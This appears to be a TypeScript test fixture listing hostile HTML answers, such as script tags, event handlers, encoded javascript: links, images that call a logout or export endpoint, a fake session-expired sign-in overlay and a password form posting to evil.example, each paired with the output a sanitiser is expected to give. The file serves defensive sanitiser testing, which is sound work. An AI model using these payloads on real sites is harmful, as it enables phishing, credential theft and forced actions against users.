/**
 * Hostile answers (issue 52's outside probe, and the classic ways HTML acts) and what each must show once
 * sanitised, by the server's sanitiser and by the dashboard's alike: its visible text (whitespace collapsed), the
 * links and the images it keeps. For the tests of both (apps/server/src/lib/bot-answer-html.test.ts,
 * apps/web/src/components/sanitized-html.test.tsx); the dashboard's own origin is SAMPLE_OWN_ORIGIN.
 */
export const SAMPLE_OWN_ORIGIN = 'https://steward.example.com';

export interface HostileAnswerSample {
  name: string;
  html: string;
  text: string;
  links: string[];
  images: string[];
}

export const HOSTILE_ANSWER_SAMPLES: readonly HostileAnswerSample[] = [
  { name: 'an image of the logout call', html: '<p>Your order ships.</p><img src="/api/logout" alt="">', text: 'Your order ships.', links: [], images: [] },
  {
    name: "an image of an export at the dashboard's own address",
    html: '<img src="https://steward.example.com/api/export/history?format=csv" alt="chart">',
    text: 'chart',
    links: [],
    images: [],
  },
  { name: 'an image with a user name before the host', html: '<img src="https://x@steward.example.com/api/logout" alt="">', text: '', links: [], images: [] },
  { name: 'an image without a scheme', html: '<img src="//steward.example.com/api/logout" alt="">', text: '', links: [], images: [] },
  { name: 'an image in upper case with spaces', html: '<IMG SRC=" /api/logout " ALT="x">', text: 'x', links: [], images: [] },
  { name: 'a data: image', html: '<img src="data:image/svg+xml,%3Csvg%3E%3C/svg%3E" alt="icon">', text: 'icon', links: [], images: [] },
  { name: 'an image over plain http, shown as a link', html: '<img src="http://tracker.example/p.gif" alt="pixel">', text: 'pixel', links: ['http://tracker.example/p.gif'], images: [] },
  {
    name: "an https image of another site, kept without its srcset",
    html: '<p>Like this:</p><img src="https://cdn.example.net/box.png" srcset="/api/logout 1x" alt="The box" onerror="alert(1)">',
    text: 'Like this:',
    links: [],
    images: ['https://cdn.example.net/box.png'],
  },
  {
    name: 'a class-drawn full-screen sign-in box',
    html:
      '<div class="modal d-block position-fixed top-0 start-0 w-100 h-100 bg-body" style="z-index:9999" id="root">' +
      '<h2 class="h1">Your session has expired</h2><a class="btn btn-primary w-100" href="https://evil.example/sign-in">Sign in again</a></div>',
    text: 'Your session has expired Sign in again',
    links: ['https://evil.example/sign-in'],
    images: [],
  },
  {
    name: 'a form asking for the password',
    html: '<form action="https://evil.example/steal"><input name="password" type="password"></form><p>Thanks</p>',
    text: 'Thanks',
    links: [],
    images: [],
  },
  { name: 'a script and an event handler', html: '<p>a</p><script>alert(1)</script><img src=x onerror="alert(2)">', text: 'a', links: [], images: [] },
  { name: 'a javascript: link, its scheme encoded', html: '<a href="jav&#x61;script:alert(1)">click</a>', text: 'click', links: [], images: [] },
  { name: "a link to the dashboard's own logout", html: '<a href="/api/logout">Sign out</a> <a href="https://steward.example.com/api/export/audit-log">Log</a>', text: 'Sign out Log', links: [], images: [] },
  { name: 'a mail link and a link to the shop', html: '<a href="mailto:help@shop.example.com">Write</a> <a href="https://shop.example.com/faq" target="_self" rel="opener">FAQ</a>', text: 'Write FAQ', links: ['mailto:help@shop.example.com', 'https://shop.example.com/faq'], images: [] },
  { name: 'SVG with an image of the API', html: '<svg><image href="/api/logout"></image></svg><p>ok</p>', text: 'ok', links: [], images: [] },
  { name: 'style, base, refresh, frames and objects', html: '<style>body{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><iframe src="/api/logout"></iframe><object data="/api/logout"></object><p>x</p>', text: 'x', links: [], images: [] },
  { name: 'a table with spans, a list with a start', html: '<table><tr><td colspan="2" style="color:red">Size</td></tr></table><ol start="3" id="list"><li>Three</li></ol>', text: 'Size Three', links: [], images: [] },
];
